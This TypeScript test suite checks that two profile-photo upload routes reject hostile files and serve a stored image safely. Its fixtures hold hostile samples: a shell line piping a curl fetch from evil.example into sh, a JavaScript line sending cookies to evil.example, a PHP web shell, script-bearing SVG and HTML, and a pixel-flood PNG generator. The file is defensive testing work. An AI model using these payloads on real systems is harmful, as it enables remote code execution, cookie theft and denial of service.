// Hostile uploads on both photo routes, beyond the size/type table of the resource suites:
// scripts and executables renamed .png, a 20 MB file over a real socket, pixel floods (tiny
// files declaring 50 000 × 50 000 and the largest JPEG/GIF/WebP sizes), multipart fuzzing; and an
// accepted image that carries a script is served back as an image that browsers will not sniff.
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import {
  diskUploadsApp,
  gifWithSize,
  jpegWithSize,
  multipart,
  newClient,
  newTherapist,
  PNG_1x1,
  useTestApp,
  webpWithSize,
  type TestUser,
} from '../../testing/helpers';

/** A well-formed PNG (valid chunk CRCs, one small zlib IDAT) whose header declares width×height:
 * a decoder that trusted it would allocate width×height×4 bytes (10 GB for 50 000²). */
function pixelFloodPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(6, 9); // RGBA
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const INVALID = 'Por favor, selecione uma imagem válida.';
const TOO_MANY_PIXELS = 'A imagem deve ter no máximo 4096×4096 pixels.';

describe('hostile uploads', () => {
  const t = useTestApp();
  const therapist = newTherapist('Foto Hostil');
  const client = newClient('Foto Hostil');

  const targets: [string, () => TestUser, () => string][] = [
    ['therapist photo', () => therapist, () => `/terapeutas/${therapist.sub}/upload-profile-image`],
    ['client photo', () => client, () => `/clientes/${client.sub}/upload-profile-image`],
  ];
  const upload = (user: TestUser, url: string, bytes: Buffer, filename = 'foto.png', contentType = 'image/png') => {
    const { payload, headers } = multipart({ filename, contentType, bytes });
    return t.call({ method: 'POST', url, user, headers, payload });
  };

  const disguised: [string, Buffer][] = [
    ['a shell script renamed .png', Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n')],
    ['a JavaScript file renamed .png', Buffer.from('window.__pwned = 1; fetch("https://evil.example/?c=" + document.cookie);')],
    ['a PHP script renamed .png', Buffer.from('<?php system($_GET["c"]); ?>')],
    ['a Windows executable renamed .png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)])],
    ['an ELF executable renamed .png', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)])],
    ['an SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>alert(1)</script></svg>')],
    ['only the PNG signature', PNG_1x1.subarray(0, 8)],
  ];

  describe.each(targets)('%s', (_name, user, url) => {
    it.each(disguised)('400 for %s', async (_label, bytes) => {
      const res = await upload(user(), url(), bytes);
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe(INVALID);
    });

    it.each([
      ['a 50 000×50 000 PNG (pixel flood)', pixelFloodPng(50_000, 50_000)],
      ['a 4097×1 PNG', pixelFloodPng(4097, 1)],
      ['a 65 500×65 500 JPEG', jpegWithSize(65_500, 65_500)],
      ['a 65 535×65 535 GIF', gifWithSize(65_535, 65_535)],
      ['a 16 384×16 384 WebP', webpWithSize(16_384, 16_384)],
    ])('400 for %s, answered at once', async (_label, bytes) => {
      expect(bytes.length).toBeLessThan(100 * 1024); // the flood is in the header, not the file
      const started = Date.now();
      const res = await upload(user(), url(), bytes);
      expect(res.statusCode).toBe(400);
      expect(res.json().message).toBe(TOO_MANY_PIXELS);
      expect(Date.now() - started).toBeLessThan(2000); // nothing decoded
    });

    it('accepts the largest allowed square (4096×4096) header', async () => {
      expect((await upload(user(), url(), pixelFloodPng(4096, 4096))).statusCode).toBe(200);
    });

    it('property: arbitrary multipart uploads never produce a 5xx, and only images are stored', async () => {
      const stored = () => t.storage.files.size;
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(fc.uint8Array({ maxLength: 2048 }).map((a) => Buffer.from(a)), fc.constantFrom(PNG_1x1.subarray(0, 20), Buffer.alloc(0))),
          fc.string({ maxLength: 40 }),
          fc.constantFrom('image/png', 'image/svg+xml', 'text/html', 'application/octet-stream', '', 'image/png; charset=utf-8'),
          fc.constantFrom('file', 'foto', 'File', ''),
          async (bytes, filename, contentType, field) => {
            const count = stored();
            const safeName = filename.replace(/["\r\n]/g, '_') || 'x';
            const { payload, headers } = multipart({ field, filename: safeName, contentType, bytes });
            const res = await t.call({ method: 'POST', url: url(), user: user(), headers, payload });
            if (res.statusCode >= 500) throw new Error(`${res.statusCode} ${res.body}`);
            if (res.statusCode === 200) throw new Error(`random bytes accepted as an image: ${bytes.subarray(0, 16).toString('hex')}`);
            expect(stored()).toBe(count);
          },
        ),
        { numRuns: 40, seed: 20260110 },
      );
    });
  });

  describe('a 20 MB file over a real socket', () => {
    let base: string;
    beforeAll(async () => {
      await t.app.listen({ port: 0, host: '127.0.0.1' });
      base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
    });

    /** Streams the multipart body; resolves with the status (or the socket error once the
     * server has answered and closed: it need not read 20 MB it has already refused). */
    const post = (url: string, token: string, body: Buffer, headers: Record<string, string>) =>
      new Promise<{ status: number | null; body: string; error?: string }>((resolve) => {
        const req = httpRequest(`${base}${url}`, {
          method: 'POST',
          headers: { ...headers, authorization: `Bearer ${token}`, 'content-length': String(body.length) },
        });
        let answered: { status: number | null; body: string } | undefined;
        req.on('response', (res) => {
          let text = '';
          res.on('data', (c: Buffer) => (text += c));
          res.on('end', () => {
            answered = { status: res.statusCode ?? null, body: text };
            resolve(answered);
          });
        });
        req.on('error', (e) => resolve(answered ?? { status: null, body: '', error: String(e) }));
        req.end(body);
      });

    it.each(targets)('%s: 413 with the pt-BR limit, and the api keeps answering', async (_name, user, url) => {
      const { payload, headers } = multipart({ filename: 'enorme.png', contentType: 'image/png', bytes: Buffer.concat([PNG_1x1, Buffer.alloc(20 * 1024 * 1024)]) });
      const before = t.storage.files.size;
      const res = await post(url(), await t.token(user()), payload, headers);
      expect(res.error).toBeUndefined();
      expect(res.status).toBe(413);
      expect(JSON.parse(res.body).message).toMatch(/^A imagem deve ter no máximo \dMB\.$/);
      expect(t.storage.files.size).toBe(before);
      const health = await fetch(`${base}/health`);
      expect(health.status).toBe(200);
    });
  });

  it('an accepted image carrying a script is served as an image, never sniffed as HTML', async () => {
    const app = await diskUploadsApp(t, { sub: 'poliglota', email: 'p@x.com', name: 'Poliglota' });
    try {
      // a real PNG header followed by HTML: valid dimensions, so it is stored
      const polyglot = Buffer.concat([PNG_1x1, Buffer.from('<html><script>window.__pwned=1</script></html>')]);
      const { payload, headers } = multipart({ filename: 'x.html', contentType: 'text/html', bytes: polyglot });
      const res = await app.inject({ method: 'POST', url: '/terapeutas/poliglota/upload-profile-image', headers: { ...headers, authorization: 'Bearer x' }, payload });
      expect(res.statusCode).toBe(200);
      const url: string = res.json().url;
      expect(url).toMatch(/\.png$/); // the name comes from the content, not from 'x.html'
      const served = await app.inject({ method: 'GET', url: url.replace('http://api.exemplo', '') });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/png');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
    } finally {
      await app.close();
    }
  });
});
